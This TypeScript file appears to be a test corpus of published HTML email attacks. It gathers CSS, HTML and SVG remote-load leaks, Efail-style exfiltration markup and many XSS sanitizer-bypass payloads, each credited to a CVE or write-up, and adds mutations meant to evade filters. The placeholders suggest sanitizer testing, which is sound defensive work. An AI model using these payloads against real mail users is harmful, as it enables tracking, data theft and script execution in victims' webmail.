/**
 * Published attacks on HTML email, with sources. `{ask}` is a URL of the counting server, `{run}` a script that reports
 * that it ran.
 */

/** Markup by source. */
type Attacks = Readonly<Record<string, string>>

const CSS_ASKS: Attacks = {
  'Roundcube #6178, escaped url()': '<p style="background:\\75 rl({ask})">x</p>',
  'Roundcube #6178, url() in capitals': '<p style="background-image:URL({ask})">x</p>',
  'Roundcube 1.7.4, escapes in FuncIRI':
    '<svg><rect width=9 height=9 fill="\\75rl({ask}#a)" filter="u\\72l({ask}#f)"/></svg>',
  'Roundcube 1.6.16, CSS var()': '<div style="--a:url({ask});background:var(--a)">x</div>',
  'Roundcube 1.6.13, CSS injection': '<style>p{background:url({ask})}</style><p>x</p>',
  'Roundcube 1.6.12 (CVE-2025-68460), style sanitizer':
    '<style>p{color:red}/*</style><style>*/p{background:url({ask})}</style><p>x</p>',
  'Roundcube 1.7.4, declaration smuggled by an ampersand':
    '<p style="font-family:&quot;a&amp;quot;;background:url({ask});&quot;">x</p>',
  'Roundcube 1.6.14, !important': '<p style="position:fixed!important;background:url({ask})!important">x</p>',
  'CVE-2024-42010, insufficient CSS filter': '<style>@import "{ask}";</style>',
  'CVE-2021-46144, unusual CSS': '<style>@im\\port url({ask});</style>',
  'Email Privacy Tester, css import': '<style>@import url("{ask}") screen;</style>',
  'Email Privacy Tester, css font-face':
    '<style>@font-face{font-family:f;src:url({ask})}p{font-family:f}</style><p>x</p>',
  'Email Privacy Tester, css content': '<style>p::before{content:url({ask})}</style><p>x</p>',
  'Email Privacy Tester, css behavior': '<p style="behavior:url({ask})">x</p>',
  'Email Privacy Tester, css background image': '<p style="background-image:url(\'{ask}\')">x</p>',
  'Efail appendix, list-style-image': '<ul style="list-style-image:url({ask})"><li>x</ul>',
  'Efail appendix, border-image': '<p style="border:9px solid;border-image:url({ask}) 3">x</p>',
  'Efail appendix, cursor': '<p style="cursor:url({ask}),auto">x</p>',
  'Efail appendix, multiple backgrounds': '<p style="background:url(data:,),url({ask})">x</p>',
  'HTTPLeaks, image-set()': '<p style="background:image-set(\'{ask}\' 1x)">x</p>',
  'HTTPLeaks, -webkit-image-set()': '<p style="background:-webkit-image-set(url({ask}) 1x)">x</p>',
  'HTTPLeaks, cross-fade()': '<p style="background:-webkit-cross-fade(url({ask}),url(data:,),50%)">x</p>',
  'HTTPLeaks, mask': '<p style="-webkit-mask:url({ask});mask-image:url({ask})">x</p>',
  'HTTPLeaks, filter': '<p style="filter:url({ask}#f)">x</p>',
  'HTTPLeaks, clip-path': '<p style="clip-path:url({ask}#c)">x</p>',
  'HTTPLeaks, shape-outside': '<p style="float:left;shape-outside:url({ask})">x</p>',
  'HTTPLeaks, offset-path': '<p style="offset-path:url({ask}#p)">x</p>',
  'HTTPLeaks, -webkit-box-reflect': '<p style="-webkit-box-reflect:below 0 url({ask})">x</p>',
  'HTTPLeaks, cue and sounds': '<p style="cue:url({ask});play-during:url({ask})">x</p>',
  'HTTPLeaks, @namespace and @document':
    '<style>@namespace url({ask});@-moz-document url({ask}){p{color:red}}</style><p>x</p>',
  'HTTPLeaks, @import with a layer': '<style>@import url({ask}) layer(a) supports(color:red);</style>',
  'Proton, Sonar 2023, escape that ends a string':
    "<p style=\"content:'\\';background:url({ask});x:'\">x</p>",
  'CSS Exfil (Gualtieri 2018)': '<style>input[value^=a]{background:url({ask})}</style><input value=abc>',
  'Nested declarations': '<style>div{& p{background:url({ask})}}</style><div><p>x</p></div>',
  '@property with an image':
    '<style>@property --i{syntax:"<image>";inherits:true;initial-value:url({ask})}p{background:var(--i)}</style><p>x</p>',
  'Sliding font leak (Heyes 2021)':
    '<style>@font-face{font-family:l;src:url({ask});unicode-range:U+0061}</style><p style="font-family:l">a</p>',
  'Animated custom property':
    '<style>@keyframes k{from{--x:url({ask})}to{--x:url({ask}?2)}}p{animation:k 1s;background-image:var(--x)}</style><p>x</p>',
  'Outlook, mso- and escaped newline': '<p style="mso-x:1;back\\\nground:u\\\nrl({ask})">x</p>',
  'Comment within a property': '<p style="background:u/**/rl({ask});back/**/ground:url({ask})">x</p>',
  'Sheet in a data: address': '<link rel=stylesheet href="data:text/css,p{background:url({ask})}"><p>x</p>',
}

const HTML_ASKS: Attacks = {
  'Roundcube #5583, input type=image': '<input type=image src="{ask}">',
  'Roundcube #5583, video': '<video src="{ask}" autoplay></video>',
  'Email Privacy Tester, video poster': '<video poster="{ask}"></video>',
  'Email Privacy Tester, audio': '<audio src="{ask}" autoplay preload=auto></audio>',
  'CVE-2018-5162, source of a remote sound': '<audio autoplay><source src="{ask}"></audio>',
  'CVE-2017-5465 and Efail, a picture': '<img src="{ask}">',
  'Efail, direct exfiltration: an attribute without an end': '<img src="{ask}?',
  'Efail, the same by a link': '<link rel=stylesheet href="{ask}?',
  'Email Privacy Tester, img srcset': '<img srcset="{ask} 1x">',
  'Email Privacy Tester, picture': '<picture><source srcset="{ask}"><img alt=x></picture>',
  'Roundcube 1.6.14, crafted body background': '<body background="{ask}"><p>x</p></body>',
  'Roundcube 1.7.4, body background that adds a property':
    '<body background="x);background:url({ask}"><p>x</p></body>',
  'Efail appendix, table background': '<table background="{ask}"><tr><td background="{ask}">x</table>',
  'Email Privacy Tester, bgsound': '<bgsound src="{ask}">',
  'Efail appendix, image': '<image src="{ask}">',
  'Efail appendix, lowsrc and dynsrc': '<img lowsrc="{ask}" dynsrc="{ask}">',
  'Efail appendix, embed': '<embed src="{ask}" type="text/html">',
  'Efail appendix, object': '<object data="{ask}" type="text/html"></object>',
  'Efail appendix, object param': '<object type="image/png"><param name=src value="{ask}"></object>',
  'Efail appendix, applet': '<applet codebase="{ask}" code=x></applet>',
  'Efail appendix, iframe': '<iframe src="{ask}"></iframe>',
  'CVE-2022-3032, iframe srcdoc': '<iframe srcdoc="<img src={ask}>"></iframe>',
  'CVE-2022-3034, iframe to a stranger': '<iframe src="{ask}" width=1 height=1 loading=eager></iframe>',
  'Efail appendix, frameset': '<frameset><frame src="{ask}"></frameset>',
  'CVE-2022-3033, meta refresh with a base':
    '<base href="{ask}"><meta http-equiv=refresh content="0;url={ask}">',
  'Email Privacy Tester, meta refresh': '<meta http-equiv="refresh" content="0; URL={ask}">',
  'Roundcube, refresh in other words': '<META HTTP-EQUIV=Refresh CONTENT="0 , {ask}">',
  'Email Privacy Tester, link prefetch':
    '<link rel=prefetch href="{ask}"><link rel=preload as=image href="{ask}">',
  'Email Privacy Tester, dns prefetch and preconnect':
    '<link rel=dns-prefetch href="//{askhost}"><link rel=preconnect href="{ask}"><a href="{ask}">x</a>',
  'Email Privacy Tester, css link': '<link rel=stylesheet href="{ask}">',
  'Roundcube 1.6.14, sheets of the local network':
    '<link rel="alternate stylesheet" title=a href="{ask}"><link rel=stylesheet href="{ask}" media=all>',
  'HTTPLeaks, icons and manifests':
    '<link rel=icon href="{ask}"><link rel=apple-touch-icon href="{ask}"><link rel=manifest href="{ask}">',
  'HTTPLeaks, modulepreload': '<link rel=modulepreload href="{ask}">',
  'HTTPLeaks, import and next':
    '<link rel=import href="{ask}"><link rel=next href="{ask}"><link rel=prerender href="{ask}">',
  'HTTPLeaks, imagesrcset': '<link rel=preload as=image imagesrcset="{ask} 1x">',
  'Email Privacy Tester, manifest': '<html manifest="{ask}"><p>x</p></html>',
  'HTTPLeaks, head profile': '<head profile="{ask}"></head><p>x</p>',
  'HTTPLeaks, track': '<video controls><track default src="{ask}"></video>',
  'HTTPLeaks, menuitem and command': '<menu><menuitem icon="{ask}"><command icon="{ask}"></menu>',
  'HTTPLeaks, portal and fencedframe': '<portal src="{ask}"></portal><fencedframe src="{ask}"></fencedframe>',
  'HTTPLeaks, xml and xss': '<xml src="{ask}"></xml><xss src="{ask}">x</xss>',
  'HTTPLeaks, isindex': '<isindex action="{ask}" type=image src="{ask}">',
  'HTTPLeaks, attributionsrc': '<img attributionsrc="{ask}" src="data:,">',
  'HTTPLeaks, button with a picture': '<button><img src="{ask}"></button>',
  'HTTPLeaks, select with a picture': '<select><option style="background:url({ask})">x</select>',
  'HTTPLeaks, template with a shadow':
    '<div><template shadowrootmode=open><img src="{ask}"></template></div>',
  'Roundcube, base and a picture beside it': '<base href="{ask}/"><img src="a.png">',
  'Roundcube, address without a scheme': '<img src="//{askhost}">',
  'Roundcube, blank before the scheme': '<img src=" \n{ask}">',
  'Roundcube, backslashes': '<img src="http:\\\\{askhost}">',
  'Roundcube, tab in the scheme': '<img src="ht\ttp://{askhost}">',
  'Roundcube, entities in the scheme': '<img src="&#104;ttp&colon;//{askhost}">',
  'Thunderbird bug 1270697, noscript': '<noscript><img src="{ask}"></noscript>',
  'Thunderbird, xmp and listing': '<xmp></xmp><listing><img src="{ask}"></listing><plaintext>',
  'Outlook VML, fill and imagedata': '<v:rect><v:fill src="{ask}"/><v:imagedata src="{ask}"/></v:rect>',
  'Outlook, conditional comment':
    '<!--[if gte mso 9]><img src="{ask}"><![endif]--><![if !mso]><img src="{ask}"><![endif]>',
  'CVE-2024-21413, MonikerLink':
    '<a href="file:///\\\\{askhost}\\share\\a.rtf!x">x</a><img src="file://///{askhost}/a.png">',
  'CVE-2023-23397 and before, UNC paths': '<img src="\\\\{askhost}\\share\\a.png">',
  'Outlook, signature frame': '<iframe src="{ask}" security=restricted></iframe>',
  'Apple Mail, Efail’s CSS in a head':
    '<head><style>body{background:url({ask})}</style></head><body>x</body>',
  'Email Privacy Tester, view-source': '<iframe src="view-source:{ask}"></iframe>',
  'Email Privacy Tester, a frame in a data: address':
    '<iframe src="data:text/html,<img src={ask}>"></iframe>',
  MathML:
    '<math href="{ask}"><mglyph src="{ask}"/><maction actiontype="statusline#http://x" xlink:href="{ask}">x</maction></math>',
}

const SVG_ASKS: Attacks = {
  'Roundcube 1.6.13, feImage':
    '<svg width=9 height=9><filter id=t><feImage href="{ask}" width=9 height=9 /></filter><rect filter="url(#t)" width=9 height=9 /></svg>',
  'Roundcube 1.6.14, animate of href':
    '<svg><image width=9 height=9><animate attributeName=href values="{ask}" dur=1s begin=0s /></image></svg>',
  'Roundcube 1.7.4, SMIL animation of src':
    '<svg><image width=9 height=9><set attributeName=href to="{ask}" begin=0s /></image></svg>',
  'Roundcube 1.6.16, animate of style':
    '<svg><rect width=9 height=9><animate attributeName=style values="fill:url({ask}#a)" dur=1s /></rect></svg>',
  'Roundcube 1.6.14, animate of filter and mask':
    '<svg><rect width=9 height=9><animate attributeName=filter values="url({ask}#a)" dur=1s /><animate attributeName=mask from="url({ask}#b)" to="url({ask}#c)" dur=1s /></rect></svg>',
  'Email Privacy Tester, svg image': '<svg><image xlink:href="{ask}" width=9 height=9 /></svg>',
  'Email Privacy Tester, svg as a picture':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{ask}'/></svg>\">",
  'Roundcube #4949 (CVE-2016-4068), svg': '<svg><use xlink:href="{ask}#a"/></svg>',
  'HTTPLeaks, svg style':
    '<svg><style>@import "{ask}";rect{fill:url({ask}#x)}</style><rect width=9 height=9 /></svg>',
  'HTTPLeaks, svg font and cursor':
    '<svg><font-face><font-face-src><font-face-uri xlink:href="{ask}"/></font-face-src></font-face><cursor xlink:href="{ask}"/></svg>',
  'HTTPLeaks, tref and textPath':
    '<svg><text><tref xlink:href="{ask}#a"/><textPath xlink:href="{ask}#b">x</textPath></text></svg>',
  'HTTPLeaks, gradients and patterns':
    '<svg><linearGradient id=g href="{ask}#g"/><pattern id=p href="{ask}#p"/><rect fill="url(#p)" width=9 height=9 /></svg>',
  'HTTPLeaks, mpath and discard':
    '<svg><circle r=9><animateMotion dur=1s><mpath xlink:href="{ask}#m"/></animateMotion></circle></svg>',
  'HTTPLeaks, marker and clip':
    '<svg><path marker-start="url({ask}#m)" clip-path="url({ask}#c)" d="M0 0h9v9z"/></svg>',
  'HTTPLeaks, foreignObject': '<svg><foreignObject width=9 height=9><img src="{ask}"/></foreignObject></svg>',
  'HTTPLeaks, xml:base': '<svg xml:base="{ask}"><image href="a.png" width=9 height=9 /></svg>',
}

const RUNS: Attacks = {
  'CVE-2023-5631 (Roundcube #9168), svg use of a data: address':
    '<svg><use href="dAta:image/s\tvg+xml;base64,PHN2ZyBpZD0ieDIiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyI+PGltYWdlIGhyZWY9IngiIG9uZXJyb3I9InBhcmVudC5wb3N0TWVzc2FnZShgcmFuYCxgKmApIi8+PC9zdmc+#x2"/></svg><svg><image href=x onerror="{run}"/></svg>',
  'CVE-2018-19206 (Roundcube #6410), svg style': '<html><svg><style><//><body onload="{run}">',
  'CVE-2024-37383, animate attributes':
    '<svg><a id=a><text y=9>x</text></a><animate attributeName="href " values="javascript:{run}" href="#a"/><set attributeName=onbegin to=x onbegin="{run}"/></svg>',
  'CVE-2024-42009, desanitised body':
    '<body title="bgcolor=foo" name="bar style=animation-name:k onanimationstart={run} foo=bar"><style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="{run}">x</p></body>',
  'CVE-2025-68461, svg animate': '<svg><animate onbegin="{run}" attributeName=x dur=1s /></svg>',
  'CVE-2020-35730, link references in plain text':
    '[<a href="x" onfocus="{run}" autofocus tabindex=1>1</a>]: http://x',
  'CVE-2023-43770, link references': '[<script>{run}</script>] [1]\n\n[1]: http://x/<script>{run}</script>',
  'CVE-2020-12625, CDATA': '<![CDATA[<script>{run}</script>]]><script>{run}</script>',
  'CVE-2020-15562, svg namespace': '<svg><svg><style><img src=x onerror="{run}"></style></svg>',
  'CVE-2020-16145, math href':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
  'CVE-2015-8864, svg script': '<svg><script>{run}</script></svg>',
  'CVE-2017-6820, xml namespaces': '<rss:svg><rss:script>{run}</rss:script></rss:svg><svg onload="{run}">',
  'CVE-2026-54433, zero-click in plain text':
    '<plaintext><img src=x onerror="{run}"></plaintext><img src=x onerror="{run}">',
  'Roundcube 1.7.4, text/enriched': '<param></param><script>{run}</script>',
  'Proton, Sonar 2023, svg that was renamed':
    '<svg><style><a alt="</style><img src=x onerror={run}>"></style></svg>',
  'Tutanota, Sonar 2023, quotes in an attribute':
    '<a href="x" title="&quot; onmouseover={run} autofocus onfocus={run} &quot;" tabindex=0>x</a><input autofocus onfocus="{run}">',
  'Skiff, Sonar 2023, details': '<details open ontoggle="{run}"><summary>x</summary></details>',
  'Yahoo Mail 2016 (Pynnönen), markup in data-':
    '<div data-url="&quot;><script>{run}</script>" class="yahoo-compose-embed"><img src=x onerror="{run}"></div>',
  'Zimbra CVE-2022-24682, attributes':
    '<img src="data:image/svg+xml;utf8,<svg onload={run}>" onerror="{run}">',
  'Outlook Web CVE-2020-16875 and kin, iframe': '<iframe src="javascript:{run}"></iframe>',
  'Gmail AMP (Bentkowski 2019), DOM clobbering':
    '<form id=x><input name=attributes><img src=x onerror="{run}"></form><a id=defaultView href="x">',
  'DOMPurify 2.0.17 (Bentkowski 2020), form and mglyph':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{run}"></style></mglyph></form>',
  'DOMPurify 2.0 (Bentkowski 2019), svg p style':
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
  'mXSS (Heiderich 2013), listing':
    '<listing>&lt;img src=x onerror="{run}"&gt;</listing><img src="`x`onerror={run}">',
  'noscript, differing parsers': '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
  'textarea, differing parsers': '<textarea><p title="</textarea><img src=x onerror={run}>">',
  'title, differing parsers': '<title><a title="</title><img src=x onerror={run}>"></title>',
  'xmp, differing parsers': '<xmp><p title="</xmp><svg/onload={run}>">',
  'iframe, differing parsers': '<iframe><p title="</iframe><img src=x onerror={run}>"></iframe>',
  'comment that ends early': '<!--><img src=x onerror="{run}">--><!--!><svg onload="{run}">-->',
  'comment that ends oddly': '<!-- --!><img src=x onerror="{run}"><!-- -->',
  'script in a frame’s srcdoc':
    '<iframe srcdoc="<script>parent.postMessage(`ran`,`*`)</script><img src=x onerror={run}>"></iframe>',
  'html5sec, script': '<script>{run}</script>',
  'html5sec, script from elsewhere': '<script src="{ask}"></script>',
  'html5sec, module': '<script type=module>{run}</script>',
  'html5sec, events without quotes': '<img/src=x/onerror={run}>',
  'html5sec, slashes and NULs': '<scr\0ipt>{run}</scr\0ipt><img\fsrc=x\fonerror={run}>',
  'html5sec, marquee': '<marquee onstart="{run}">x</marquee>',
  'html5sec, autofocus':
    '<select autofocus onfocus="{run}"></select><textarea autofocus onfocus="{run}"></textarea>',
  'html5sec, video error': '<video><source onerror="{run}"></video><audio src=x onerror="{run}">',
  'html5sec, object':
    '<object data="data:text/html,<script>parent.postMessage(`ran`,`*`)</script>" onerror="{run}"></object>',
  'html5sec, embed':
    '<embed src="javascript:{run}"><embed src="data:text/html,<script>parent.postMessage(`ran`,`*`)</script>">',
  'html5sec, transitions':
    '<style>p{transition:color 1ms}p:not(x){color:red}</style><p ontransitionend="{run}" style="animation:k 1ms" onanimationend="{run}">x</p><style>@keyframes k{}</style>',
  'html5sec, expression()': '<p style="width:expression({run});x:expr/**/ession({run})">x</p>',
  'html5sec, -moz-binding': '<p style="-moz-binding:url({ask}#x)">x</p>',
  'html5sec, meta to javascript:': '<meta http-equiv=refresh content="0;url=javascript:{run}">',
  'html5sec, meta of a policy':
    '<meta http-equiv=Content-Security-Policy content="default-src * \'unsafe-inline\'"><script>{run}</script>',
  'html5sec, set-cookie': '<meta http-equiv=Set-Cookie content="ran=1">',
  'html5sec, form that is sent by itself':
    '<form id=f action="{ask}"><input name=a><img src=x onerror="f.submit();{run}"></form>',
  'html5sec, base with javascript:':
    '<base href="javascript:/a/"><a href="#" id=a>x</a><body onload="{run}">',
  'PortSwigger, onbeforetoggle':
    '<div popover id=p onbeforetoggle="{run}">x</div><button popovertarget=p autofocus onfocus="this.click()">x</button>',
  'PortSwigger, oncontentvisibilityautostatechange':
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</p>',
  'PortSwigger, onscrollend':
    '<div style="height:9px;overflow:auto" onscroll="{run}"><br><br><br><i id=t autofocus tabindex=0 onfocus="{run}">x</i></div>',
  'PortSwigger, shadow root': '<p><template shadowrootmode=open><img src=x onerror="{run}"></template></p>',
  'PortSwigger, xss in a processing instruction':
    '<?xml-stylesheet href="javascript:{run}"?><img src=x onerror="{run}">',
  'Thunderbird CVE-2025-3909, an address of an attachment':
    '<a href="{ask}" id=l>x</a><iframe src="mailbox:///x?number=1&part=1.2&filename=a.html"></iframe>',
}

/** Named by family and index. */
export const VECTORS: readonly { readonly name: string; readonly source: string; readonly html: string }[] = (
  [
    ['css', CSS_ASKS],
    ['html', HTML_ASKS],
    ['svg', SVG_ASKS],
    ['script', RUNS],
  ] as const
).flatMap(([family, vectors]) =>
  Object.entries(vectors).map(([source, html], index) => ({ name: `${family}-${index + 1}`, source, html })),
)

/** Equivalent spellings that defeat simple filters. */
export const MUTATIONS: readonly (readonly [name: string, mutate: (html: string) => string])[] = [
  ['upper', (html) => html.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`)],
  ['within', (html) => `<table><tr><td><div style="color:red">${html}`],
  [
    'entities',
    (html) => html.replace(/url\(/g, '&#117;rl(').replace(/javascript:/g, 'java&Tab;script&colon;'),
  ],
  ['slashes', (html) => html.replace(/<([a-z]+) /g, '<$1/\n/')],
]
